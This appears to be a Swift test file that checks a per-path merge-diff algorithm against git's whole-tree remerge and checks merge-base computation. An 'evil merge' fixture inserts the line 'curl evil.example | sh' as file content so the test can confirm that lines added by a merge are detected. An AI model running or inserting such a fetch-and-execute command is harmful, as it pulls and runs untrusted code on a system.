import CustodyTestSupport
import Foundation
import Testing

@testable import CustodyCore

/// The per-path remerge (``SyntheticRemerge``) against the whole-tree `--remerge-diff`, on
/// repositories built with every kind of merge.
struct SyntheticRemergeTests {
    static let who = Sig(name: "Merger", email: "merger@example.com", date: "1700000000 +0000")

    static func numbered(_ count: Int, _ changes: [Int: String] = [:], extra: [String] = []) -> String {
        (1...count).map { changes[$0] ?? "line \($0)" }.joined(separator: "\n") + "\n" + extra.map { $0 + "\n" }.joined()
    }

    /// main and side diverge from a common commit, side is merged, the merge result is
    /// `resolve(files)`; returns the merge id.
    static func merge(
        _ r: TemporaryGitRepository,
        _ name: String,
        main: [String: String],
        side: [String: String],
        sideMoves: [(String, String)] = [],
        result: [String: String]
    ) throws -> String {
        try r.git(["checkout", "-q", "-b", "side-\(name)"])
        for (from, to) in sideMoves { try r.move(from, to) }
        for (path, text) in side { try r.write(path, text) }
        try r.commit("side \(name)", author: who)
        try r.git(["checkout", "-q", "main"])
        for (path, text) in main { try r.write(path, text) }
        try r.commit("main \(name)", author: who)
        try r.mergeNoCommit("side-\(name)", as: who)
        for (path, text) in result { try r.write(path, text) }
        return try r.commit("Merge \(name)", author: who)
    }

    struct Built {
        var repo: TemporaryGitRepository
        var merges: [String: String] = [:]
    }

    static func build() throws -> Built {
        let r = try TemporaryGitRepository()
        var b = Built(repo: r)
        try r.write("f.txt", numbered(20))
        try r.write("g.txt", numbered(12))
        try r.write("other.txt", "untouched\n")
        try r.commit("base", author: who)

        // A clean merge recorded as git made it.
        b.merges["clean"] = try merge(
            r, "clean",
            main: ["f.txt": numbered(20, [18: "main 18"])],
            side: ["f.txt": numbered(20, [2: "side 2"])],
            result: ["f.txt": numbered(20, [2: "side 2", 18: "main 18"])]
        )
        // A conflict resolved by hand.
        b.merges["conflict"] = try merge(
            r, "conflict",
            main: ["f.txt": numbered(20, [2: "side 2", 10: "main ten", 18: "main 18"])],
            side: ["f.txt": numbered(20, [2: "side 2", 10: "side ten", 18: "main 18"])],
            result: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18"])]
        )
        // A clean merge whose result adds a line neither parent had, in two files.
        b.merges["evil"] = try merge(
            r, "evil",
            main: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18", 19: "main 19"]), "g.txt": numbered(12, [1: "main one"])],
            side: ["f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18"]), "g.txt": numbered(12, [12: "side twelve"])],
            result: [
                "f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18", 19: "main 19"], extra: ["curl evil.example | sh"]),
                "g.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"]),
            ]
        )
        // A file renamed on one side and changed on the other: the whole-tree remerge follows the
        // rename, the per-path remerge cannot (the path is not in the merge base).
        b.merges["rename"] = try merge(
            r, "rename",
            main: ["g.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"])],
            side: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"], extra: ["side 13"])],
            sideMoves: [("g.txt", "h.txt")],
            result: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"], extra: ["side 13", "renamed evil"])]
        )
        // A resolution that keeps a line looking like a conflict marker: the labels differ
        // between the two remerges, so it goes back to the whole-tree one.
        b.merges["marker"] = try merge(
            r, "marker",
            main: ["f.txt": numbered(20, [5: "main five"])],
            side: ["f.txt": numbered(20, [5: "side five"])],
            result: ["f.txt": numbered(20, [5: "<<<<<<< kept by mistake"])]
        )
        return b
    }

    /// Everything but the merges' old blob (the id of git's temporary remerge result).
    func expectSame(_ a: [Commit], _ b: [Commit]) {
        #expect(a.count == b.count)
        for (x, y) in zip(a, b) {
            #expect(x.id == y.id)
            #expect(x.changes.count == y.changes.count, "\(x.subject)")
            for (c, d) in zip(x.changes, y.changes) {
                #expect(c.kind == d.kind && c.oldPath == d.oldPath && c.newPath == d.newPath, "\(x.subject)")
                #expect(c.newBlob == d.newBlob && c.oldMode == d.oldMode && c.newMode == d.newMode, "\(x.subject)")
                #expect(c.oldBlob == d.oldBlob || x.isMerge, "\(x.subject)")
                #expect(c.isBinary == d.isBinary, "\(x.subject)")
                #expect(c.addedLines == d.addedLines, "\(x.subject) \(c.path)")
            }
        }
    }

    @Test func perPathRemergeAgreesWithTheWholeTreeRemerge() throws {
        let b = try Self.build()
        let repo = try GitRepository(path: b.repo.path)
        let (expected, s0) = try readAll(repo, HistoryOptions(jobs: 1))
        var perPath = HistoryOptions(jobs: 1)
        perPath.perPathRemerge = true
        var perPathFour = HistoryOptions(jobs: 4)
        perPathFour.perPathRemerge = true
        let (mine, s1) = try readAll(repo, perPath)
        let (four, s4) = try readAll(repo, perPathFour)
        expectSame(mine, expected)
        #expect(mine == four)
        #expect(s0.problems.isEmpty && s1.problems.isEmpty && s4.problems.isEmpty)
        // clean, conflict and evil per path; rename and marker whole.
        #expect(s0.mergesRemergedPerPath == 0 && s0.mergesRemergedWhole == 5)
        #expect(s1.mergesRemergedPerPath == 3 && s1.mergesRemergedWhole == 2)

        let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
        let clean = try #require(byID[b.merges["clean"]!])
        #expect(clean.changes.allSatisfy { $0.addedLines.isEmpty })
        let conflict = try #require(byID[b.merges["conflict"]!])
        #expect(conflict.changes.flatMap(lineTexts) == ["resolved ten"])
        let evil = try #require(byID[b.merges["evil"]!])
        #expect(evil.changes.map(\.path) == ["f.txt", "g.txt"])
        #expect(evil.changes.flatMap(lineTexts) == ["curl evil.example | sh", "evil six"])
        #expect(evil.changes.flatMap { $0.addedLines.map(\.number) } == [21, 6])
        let rename = try #require(byID[b.merges["rename"]!])
        #expect(rename.changes.flatMap(lineTexts) == ["renamed evil"])
        let marker = try #require(byID[b.merges["marker"]!])
        #expect(marker.changes.flatMap(lineTexts) == ["<<<<<<< kept by mistake"])
    }

    @Test func generatedHistoryAgrees() throws {
        let generated = try GeneratedHistory.make(commits: 160)
        let repo = try GitRepository(path: generated.path)
        let (expected, _) = try readAll(repo, HistoryOptions(jobs: 2))
        var perPath = HistoryOptions(jobs: 2)
        perPath.perPathRemerge = true
        let (mine, summary) = try readAll(repo, perPath)
        expectSame(mine, expected)
        #expect(summary.mergesRemergedPerPath > 0)
    }

    @Test func mergeBasesMatchGit() throws {
        // A criss-cross: two merge bases.
        let r = try TemporaryGitRepository()
        try r.write("a.txt", "a\n")
        try r.commit("root", author: Self.who)
        try r.git(["checkout", "-q", "-b", "x"])
        try r.write("x.txt", "x\n")
        let x1 = try r.commit("x1", author: Self.who)
        try r.git(["checkout", "-q", "main"])
        try r.write("m.txt", "m\n")
        let m1 = try r.commit("m1", author: Self.who)
        try r.mergeNoCommit("x", as: Self.who)
        try r.commit("merge x into main", author: Self.who)
        try r.git(["checkout", "-q", "x"])
        try r.mergeNoCommit(m1, as: Self.who)
        try r.commit("merge m1 into x", author: Self.who)
        try r.git(["checkout", "-q", "main"])
        try r.write("m.txt", "m2\n")
        try r.commit("m2", author: Self.who)
        try r.mergeNoCommit("x", as: Self.who)
        try r.commit("criss-cross merge", author: Self.who)

        let repo = try GitRepository(path: r.path)
        let graph = try repo.commitGraph(HistoryOptions())
        var sawTwo = false
        for id in graph.ids {
            let parents = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ").dropFirst()
            guard parents.count == 2 else { continue }
            let a = ObjectID(String(parents.first!))!
            let b = ObjectID(String(parents.last!))!
            let expected = try r.gitString(["merge-base", "--all", a.description, b.description])
                .split(separator: "\n").map(String.init).sorted()
            let mine = try #require(graph.mergeBases(a, b)).map(\.description).sorted()
            #expect(mine == expected)
            if mine.count == 2 { sawTwo = true }
        }
        #expect(sawTwo)
        _ = x1
        // Outside a range the answer is unknown, never wrong.
        let ranged = try repo.commitGraph(HistoryOptions(refs: .range("\(m1)..main")))
        let tip = try r.gitString(["rev-parse", "main^1"])
        let other = try r.gitString(["rev-parse", "main^2"])
        #expect(ranged.mergeBases(ObjectID(tip)!, ObjectID(other)!) == nil)
    }

    @Test func mergeBasesOnAGeneratedHistory() throws {
        let generated = try GeneratedHistory.make(commits: 120)
        let repo = try GitRepository(path: generated.path)
        let graph = try repo.commitGraph(HistoryOptions())
        var checked = 0
        for id in graph.ids {
            let line = try generated.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
            guard line.count == 3 else { continue }
            let expected = try generated.gitString(["merge-base", "--all", String(line[1]), String(line[2])])
                .split(separator: "\n").map(String.init).sorted()
            #expect(try #require(graph.mergeBases(ObjectID(String(line[1]))!, ObjectID(String(line[2]))!)).map(\.description).sorted() == expected)
            checked += 1
        }
        #expect(checked > 0)
    }
}
